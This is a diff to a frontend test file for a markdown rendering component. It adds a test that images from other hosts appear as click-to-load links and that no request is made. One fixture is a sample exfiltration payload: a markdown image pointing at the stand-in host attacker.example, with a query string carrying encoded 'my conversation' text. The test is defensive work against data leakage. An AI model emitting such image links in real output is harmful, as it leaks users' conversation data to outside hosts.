@@ -100,12 +100,27 @@ describe('MarkdownView', () => {
     expect(mounted.view().hasAttribute('aria-busy')).to.equal(false)
   })
 
-  it('opens links in a new tab without opener and shows images', () => {
-    mounted = mountMarkdown({ text: '[学校](https://example.edu.cn) ![图](https://example.edu.cn/a.png)' })
+  it('opens links in a new tab without opener and shows images of this site', () => {
+    mounted = mountMarkdown({ text: `[学校](https://example.edu.cn) ![图](${location.origin}/a.png) ![点](data:image/png;base64,iVBORw0KGgo=)` })
     const link = mounted.shadow.querySelector('a')!
     expect([link.target, link.rel]).to.deep.equal(['_blank', 'noopener noreferrer'])
-    const image = mounted.shadow.querySelector('img')!
-    expect([image.getAttribute('src'), image.alt]).to.deep.equal(['https://example.edu.cn/a.png', '图'])
+    const images = [...mounted.shadow.querySelectorAll('img')]
+    expect(images.map((i) => [i.getAttribute('src'), i.alt])).to.deep.equal([
+      [`${location.origin}/a.png`, '图'],
+      ['data:image/png;base64,iVBORw0KGgo=', '点'],
+    ])
+  })
+
+  it('shows an image of another host as a link that loads nothing until clicked', async () => {
+    const leak = 'https://attacker.example/x.png?d=%E6%88%91%E7%9A%84%E5%AF%B9%E8%AF%9D'
+    mounted = mountMarkdown({ text: `回答 ![图表](${leak})\n\n<img src="https://attacker.example/y.png">`, locale: 'en-US' })
+    expect(mounted.shadow.querySelectorAll('img')).to.have.length(0)
+    const placeholders = [...mounted.shadow.querySelectorAll<HTMLAnchorElement>('a.zx-md-external-image')]
+    expect(placeholders.map((a) => a.getAttribute('href'))).to.deep.equal([leak, 'https://attacker.example/y.png'])
+    expect([placeholders[0]!.target, placeholders[0]!.rel]).to.deep.equal(['_blank', 'noopener noreferrer'])
+    expect(placeholders[0]!.textContent).to.contain('图表').and.contain('Image from another site').and.contain('attacker.example')
+    await new Promise((resolve) => setTimeout(resolve, 100))
+    expect(performance.getEntriesByType('resource').filter((e) => e.name.includes('attacker.example'))).to.have.length(0)
   })
 
   it('renders a different answer in full when the text is replaced', () => {
